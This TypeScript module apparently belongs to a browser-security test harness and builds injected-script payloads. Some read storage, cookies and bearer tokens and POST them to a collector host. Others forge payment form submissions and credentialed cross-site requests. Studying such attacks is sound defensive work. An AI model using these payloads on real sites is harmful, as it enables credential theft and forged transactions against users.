/** Scripts that run in a page: injected by an attacker, or in a page of another origin. Pure: text from arguments. */
import { COLLECTOR, urlOf } from './hosts.ts';

const json = (value: unknown) => JSON.stringify(value);

/** Sends data to the attacker as `text/plain`, which needs no preflight. */
function sendHome(marker: string, port: number, found: string): string {
  const url = json(urlOf(COLLECTOR, port, '/collect'));
  return `fetch(${url}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ marker: ${json(marker)}, found: ${found} }) })`;
}

/** Searches everything that a script can reach, and sends every possible credential to the attacker. */
export function storageScanScript(marker: string, port: number): string {
  return `(() => {
    const found = [];
    for (const storage of [localStorage, sessionStorage])
      for (let i = 0; i < storage.length; i++) found.push(storage.getItem(storage.key(i)));
    for (const pair of document.cookie.split('; ')) if (pair) found.push(pair, pair.slice(pair.indexOf('=') + 1));
    for (const name of Object.getOwnPropertyNames(window)) {
      let value;
      try { value = window[name]; } catch { continue; }
      if (typeof value === 'string') found.push(value);
      else if (value && Object.getPrototypeOf(value) === Object.prototype)
        for (const inner of Object.values(value)) if (typeof inner === 'string') found.push(inner);
    }
    ${sendHome(marker, port, 'found.filter(text => text.length >= 16)')};
  })()`;
}

/** Waits for the page's own next call and reads its credential. */
export function listenIn(marker: string, port: number): string {
  return `(() => {
    const real = window.fetch.bind(window);
    window.fetch = (url, options = {}) => {
      window.fetch = real;
      const found = [...new Headers(options.headers)]
        .filter(([name]) => name === 'authorization')
        .map(([, value]) => value.replace(/^(Bearer|DPoP) /, ''));
      ${sendHome(marker, port, 'found')};
      return real(url, options);
    };
  })()`;
}

/** Uses the page as its user would: it can do whatever the page can, without seeing a credential. */
export function useThePage(to: string): string {
  return `(() => {
    const form = document.querySelector('#pay');
    form.elements.to.value = ${json(to)};
    form.requestSubmit();
  })()`;
}

/** Posts a form and navigates to its target, as a click on a button would. */
export function postForm(url: string, to: string): string {
  return `(() => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = ${json(url)};
    for (const [name, value] of [['to', ${json(to)}], ['amount', '5']]) {
      const field = document.createElement('input');
      field.name = name;
      field.value = value;
      form.append(field);
    }
    document.body.append(form);
    form.submit();
  })()`;
}

const settled = `.then(() => 'answered', () => 'failed')`;

/** Posts a form with fetch, which needs no preflight. */
export function fetchForm(url: string, to: string): string {
  return `fetch(${json(url)}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: ${json(to)}, amount: '5' }) })${settled}`;
}

/** Posts JSON, for which the browser sends a preflight first. */
export function fetchJson(url: string, to: string): string {
  return `fetch(${json(url)}, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ to: ${json(to)}, amount: 5 }) })${settled}`;
}

export function loadImage(url: string): string {
  return `new Promise(done => { const image = new Image(); image.onload = image.onerror = () => done('answered'); image.src = ${json(url)}; })`;
}

export function followLink(url: string): string {
  return `(() => { const link = document.createElement('a'); link.href = ${json(url)}; document.body.append(link); link.click(); })()`;
}

/** @returns in the page: the username in the answer to `GET /me`, or a description of the failure */
export function readMe(url: string, bearer: string | null): string {
  const options = bearer === null ? { credentials: 'include' } : { headers: { authorization: `Bearer ${bearer}` } };
  return `fetch(${json(url)}, ${json(options)}).then(async reply => (await reply.json()).username ?? 'status ' + reply.status, () => 'failed')`;
}
